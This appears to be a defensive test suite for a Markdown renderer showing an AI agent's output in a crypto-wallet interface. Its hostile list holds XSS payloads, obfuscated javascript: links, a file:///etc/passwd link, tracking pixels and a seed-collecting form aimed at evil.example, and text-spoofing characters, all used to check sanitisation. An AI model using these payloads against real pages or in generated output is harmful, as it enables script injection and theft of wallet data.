// @vitest-environment happy-dom
import { cleanup, fireEvent, render } from '@testing-library/react'
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { OpenLinkContext } from './agent-link'
import { Markdown, PlainOnFailure } from './markdown'
import { richText } from './rich-text-part'

beforeAll(richText.load)
afterEach(cleanup)

const Broken = () => {
  throw new RangeError('too deep')
}

const hostile = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)>',
  '<a href="https://evil.example">click</a>',
  '<style>body{display:none}</style>',
  '<button data-state="ready">Countersign</button>',
  '<article data-tool="send_native_gas_token" data-state="confirmed">Confirmed</article>',
  '<form action="https://evil.example"><input name=seed></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example">',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<!-- --><img src=x>',
  '![balance](https://evil.example/pixel.png)',
  '![](https://evil.example/pixel.png?address=0x1)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][ref]\n\n[ref]: https://evil.example/pixel.png',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java&#x0A;script:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](//evil.example)',
  '[click](/api/auth/sign-out)',
  '[click](ethereum:0x0000000000000000000000000000000000000001?value=1)',
  '[https://app.example](https://evil.example)',
  '<https://evil.example/auto>',
  'https://evil.example/bare and www.evil.example too',
  '[ref link][r]\n\n[r]: https://evil.example "title"',
  '<javascript:alert(1)>',
  'seed@evil.example',
  'text[^1]\n\n[^1]: note https://evil.example ![x](https://evil.example/p.png)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> ![x](https://evil.example/p.png) |',
  '- [x] <input type=checkbox onclick=alert(1)> [go](https://evil.example)',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '# <img src=x onerror=alert(1)> [x](javascript:alert(1))',
]

describe('an agent’s Markdown', () => {
  it.each(hostile)('renders %j without anything that loads, runs or navigates', (text) => {
    const { container } = render(<Markdown text={text} />)
    const active = 'img,script,iframe,svg,style,form,input,meta,base,object,embed,video,link,details,math,article,a'
    expect(container.querySelectorAll(active)).toHaveLength(0)
    for (const element of container.querySelectorAll('*')) {
      const names = element.getAttributeNames()
      expect(names.filter((name) => /^(on|href|src|action|style|id|data-)/.test(name))).toEqual([])
    }
  })

  it('shows raw HTML as text', () => {
    const { container } = render(<Markdown text={'before <b onclick="x()">bold</b> after'} />)
    expect(container.textContent).toContain('<b onclick="x()">')
  })

  it.each([
    'pay &#x202E;me',
    'pay &#8238;me',
    '**pay &rlm;me**',
    '[pay &#x202E;me](https://evil.example)',
    '![pay &#x200B;me](x.png)',
    '| a |\n|---|\n| pay &zwnj;me |',
    '# pay &ZeroWidthSpace;me',
  ])('spells out invisible characters written as entities: %s', (text) => {
    const { container } = render(<Markdown text={text} />)
    expect(container.textContent).toMatch(/pay ␣U\+20[0-9A-F]{2}me/)
    expect(container.textContent).not.toMatch(/\p{Default_Ignorable_Code_Point}/u)
  })

  it('names an image without loading it', () => {
    const { container } = render(<Markdown text="![your balance](https://evil.example/p.png)" />)
    expect(container.textContent).toBe('[image: your balance]')
  })

  it('asks before it opens a link, and shows its real address', () => {
    const openLink = vi.fn()
    const { getByRole } = render(
      <OpenLinkContext value={openLink}>
        <Markdown text="[https://app.example](https://evil.example/path)" />
      </OpenLinkContext>,
    )
    const link = getByRole('button')
    expect(link.textContent).toContain('evil.example')
    fireEvent.click(link)
    expect(openLink.mock.calls[0]?.[0].href).toBe('https://evil.example/path')
  })

  it.each(['javascript:alert(1)', '/api/auth/sign-out', '//evil.example', 'mailto:a@b.example', 'https://'])(
    'turns a link to %s into plain text',
    (href) => {
      const { queryByRole } = render(<Markdown text={`[words](${href})`} />)
      expect(queryByRole('button')).toBeNull()
    },
  )

  it('renders links in a browser without URL.parse, the newest function used here', () => {
    vi.stubGlobal('URL', Object.assign(class extends URL {}, { parse: undefined }))
    const { getByRole } = render(<Markdown text="[docs](https://docs.example/x)" />)
    expect(getByRole('button').textContent).toBe('docs (docs.example)')
    vi.unstubAllGlobals()
  })

  it('shows a text as plain text if rendering it fails, and the next one as usual', () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined)
    const { container, rerender } = render(
      <PlainOnFailure text="> words">
        <Broken />
      </PlainOnFailure>,
    )
    expect(container.textContent).toBe('> words')
    rerender(<PlainOnFailure text="other">drawn</PlainOnFailure>)
    expect(container.textContent).toBe('drawn')
    vi.restoreAllMocks()
  })

  const lines = (count: number, line: (at: number) => string) =>
    Array.from({ length: count }, (_, at) => line(at)).join('\n')

  it.each([
    ['nested quotes', `${'>'.repeat(25)} words`, `${'>'.repeat(24)} words`],
    ['nested lists', `${'- '.repeat(25)}word`, `${'- '.repeat(24)}word`],
    ['nested numbered lists', `${'1. '.repeat(25)}word`, `${'1. '.repeat(24)}word`],
    [
      'lists nested by indentation',
      lines(25, (at) => `${' '.repeat(at * 2)}- word`),
      lines(24, (at) => `${' '.repeat(at * 2)}- word`),
    ],
    ['many lists', lines(1_501, () => '- word'), lines(1_500, () => '- word')],
    ['open brackets', `${'['.repeat(3_001)}word`, `**word** ${'['.repeat(2_996)}`],
    [
      'a wide table',
      `|${'a|'.repeat(70)}\n|${'-|'.repeat(70)}${'\n|x|'.repeat(70)}`,
      `|${'a|'.repeat(60)}\n|${'-|'.repeat(60)}${'\n|x|'.repeat(60)}`,
    ],
    ['many lines', lines(2_001, () => '#'), `**word**${'\n'.repeat(1_999)}`],
    ['a very long text', `**word** ${'x'.repeat(19_992)}`, `**word** ${'x'.repeat(19_991)}`],
  ])('shows %s as written, beyond what can be rendered in time', (_, wild, tame) => {
    const { container, rerender } = render(<Markdown text={wild} />)
    expect(container.querySelector('p')?.textContent).toBe(wild.length > 20_000 ? `${wild.slice(0, 20_000)}…` : wild)
    expect(container.querySelectorAll('blockquote, li, strong, td')).toHaveLength(0)
    rerender(<Markdown text={tame} />)
    expect(container.querySelectorAll('blockquote, li, strong, td').length).toBeGreaterThan(0)
  })

  it('spells out characters that hide or reverse text', () => {
    const { container } = render(<Markdown text={'pay \u202E0x1234 now\u200B'} />)
    expect(container.textContent).toBe('pay ␣U+202E0x1234 now␣U+200B')
  })

  it('renders what a good answer needs', () => {
    const { container } = render(
      <Markdown text={'# Title\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`\n\n3. third'} />,
    )
    expect(container.querySelectorAll('li')).toHaveLength(3)
    expect(container.querySelector('strong')?.textContent).toBe('two')
    expect(container.querySelectorAll('td')).toHaveLength(2)
    expect(container.querySelector('code')?.textContent).toBe('code')
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3')
    expect(container.querySelector('h1')).toBeNull()
  })
})

it('says if each item of a task list is done', () => {
  const { getAllByRole } = render(<Markdown text={'- [x] look\n- [ ] sign'} />)
  expect(getAllByRole('img').map((box) => box.getAttribute('aria-label'))).toEqual(['Done:', 'Open:'])
  expect(getAllByRole('listitem')[0]?.textContent?.replaceAll(/\s+/g, ' ')).toBe('☑ look')
})
